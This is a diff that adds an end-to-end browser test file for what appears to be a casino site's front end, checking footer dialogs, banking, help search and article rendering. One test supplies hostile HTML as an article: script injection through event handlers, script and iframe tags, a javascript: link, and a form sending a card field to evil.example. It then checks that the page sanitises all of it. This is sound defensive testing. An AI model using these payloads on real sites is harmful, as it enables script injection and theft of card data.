@@ -1,0 +1,103 @@
+import { expect, test } from '../../support/test.ts'
+import { menuButton } from './menu.ts'
+
+const SETTING = '/sys/sysSetting/contactUsSetting'
+const setting = (fields: object) => ({ body: { error: 0, message: '', data: fields } })
+
+test('[SH-19] Withdrawal rules and Promotions show the article that the setting names', async ({ page, fault, baseURL }) => {
+  await fault(SETTING, 'envelope', setting({ withdrawRulePageUrl: `${baseURL}/#/article?id=1`, promotionPageUrl: `${baseURL}/#/article?id=2` }))
+  await page.goto('/')
+  await page.getByRole('contentinfo').getByRole('link', { name: 'Withdrawal rules' }).click()
+  const rules = page.getByRole('dialog', { name: 'Withdrawal rules' })
+  await expect(rules.getByText('Double your first deposit')).toBeVisible()
+  await page.keyboard.press('Escape')
+  await menuButton(page).click()
+  await page.getByRole('dialog').getByRole('button', { name: 'Cashout rules' }).click()
+  await expect(rules).toBeVisible()
+})
+
+test('[SH-19] without an article the rules are ours @desktop', async ({ page, fault }) => {
+  await fault(SETTING, 'envelope', setting({ withdrawRulePageUrl: 'https://other.example/', promotionPageUrl: '' }))
+  await page.goto('/')
+  await page.getByRole('contentinfo').getByRole('link', { name: 'Withdrawal rules' }).click()
+  await expect(page.getByRole('dialog', { name: 'Withdrawal rules' }).getByRole('heading', { level: 3 }).first()).toBeVisible()
+  await page.keyboard.press('Escape')
+  await page.getByRole('banner').getByRole('button', { name: 'Promotions' }).click()
+  await expect(page.getByText('No promotions right now')).toBeVisible()
+})
+
+test('[SH-20] [SH-28] the long texts: close control, sections, name and domain put in', async ({ page }) => {
+  await page.goto('/')
+  const footer = page.getByRole('contentinfo')
+  const sections = (name: string) => page.getByRole('dialog', { name }).getByRole('heading', { level: 3 })
+  const close = async (name: string) => {
+    await page.getByRole('dialog', { name }).getByRole('button', { name: 'Close' }).click()
+    await expect(page.getByRole('dialog', { name })).toBeHidden()
+  }
+  await footer.getByRole('link', { name: 'About us' }).click()
+  await expect(page.getByRole('dialog', { name: 'About us' })).toContainText('Croupier')
+  await close('About us')
+  await footer.getByRole('link', { name: 'Privacy policy' }).click()
+  await expect(sections('Privacy policy')).toHaveCount(5)
+  await close('Privacy policy')
+  await footer.getByRole('link', { name: 'Terms and conditions' }).click()
+  const terms = page.getByRole('dialog', { name: 'Terms and conditions' })
+  await expect(sections('Terms and conditions')).toHaveCount(3)
+  await expect(terms).toContainText('croupier.example')
+  await expect(terms).not.toContainText('{')
+  await terms.getByRole('button', { name: 'User agreement' }).first().click()
+  await expect(sections('User agreement').first()).toBeVisible()
+  await close('User agreement')
+  await terms.getByRole('button', { name: 'Cookies policy' }).first().click()
+  await expect(sections('Cookies policy').first()).toBeVisible()
+  await close('Cookies policy')
+})
+
+test('[SH-20] Banking opens from the drawer', async ({ page, member }) => {
+  await page.goto('/')
+  await menuButton(page).click()
+  await page.getByRole('dialog').getByRole('button', { name: 'Banking' }).click()
+  const banking = page.getByRole('dialog', { name: 'Banking' })
+  await expect(banking).toBeVisible()
+  await banking.getByRole('button', { name: 'Close' }).click()
+  await expect(banking).toBeHidden()
+  expect(member.id).toBeGreaterThan(0)
+})
+
+test('[SH-21] an article has its colours and padding; its pictures lead on; hostile html does nothing @desktop', async ({ page, fault, watch }) => {
+  // The policy stops what the hostile words try while they are read: that is its work.
+  watch.allow(/inline event handler|inline style/)
+  const content = `<p>Plain words</p><img src="/pictures/covers/koi-lantern.svg" link="/article?id=2" alt="Koi">
+    <img src=x onerror="window.hacked=1"><script>window.hacked=2</script><svg onload="window.hacked=3"></svg>
+    <a href="javascript:window.hacked=4">click</a><iframe srcdoc="<script>parent.hacked=5</script>"></iframe>
+    <style>body{display:none}</style><form action="https://evil.example"><input name=card></form>`
+  const data = { id: 1, content, backgroundColor: '#112233', fontColor: '#ffeedd', padding: '30px' }
+  await fault('/base/article/get', 'envelope', { body: { error: 0, message: '', data } })
+  await page.goto('/#/article?id=1')
+  const words = page.getByText('Plain words')
+  await expect(words).toBeVisible()
+  const body = words.locator('..')
+  await expect(body).toHaveCSS('background-color', 'rgb(17, 34, 51)')
+  await expect(body).toHaveCSS('color', 'rgb(255, 238, 221)')
+  await expect(body).toHaveCSS('padding-top', '30px')
+  await expect(body.locator('script, iframe, style, form, input')).toHaveCount(0)
+  await page.getByText('click').click()
+  expect(await page.evaluate(() => (window as { hacked?: number }).hacked)).toBeUndefined()
+  await page.getByRole('link', { name: 'Koi' }).click()
+  await expect(page).toHaveURL(/#\/article\?id=2$/)
+})
+
+test('[SH-22] help search finds articles; each has a feedback widget that remembers', async ({ page }) => {
+  await page.goto('/#/branchIndex/help')
+  await page.getByRole('searchbox', { name: 'Search the help articles' }).fill('passport')
+  await expect(page.getByRole('link', { name: 'Verify your account' })).toBeVisible()
+  await expect(page.getByRole('link', { name: 'Invite friends' })).toBeHidden()
+  await page.getByRole('searchbox').fill('zzzzqqqq')
+  await expect(page.getByText('Try another word, or ask us.')).toBeVisible()
+  await page.goto('/#/branchIndex/help/verify-account')
+  const feedback = page.getByRole('region', { name: 'Was this helpful?' })
+  await feedback.getByRole('button', { name: 'Yes' }).click()
+  await expect(feedback.getByText('Thank you for your feedback.')).toBeVisible()
+  await page.reload()
+  await expect(feedback.getByText('Thank you for your feedback.')).toBeVisible()
+})
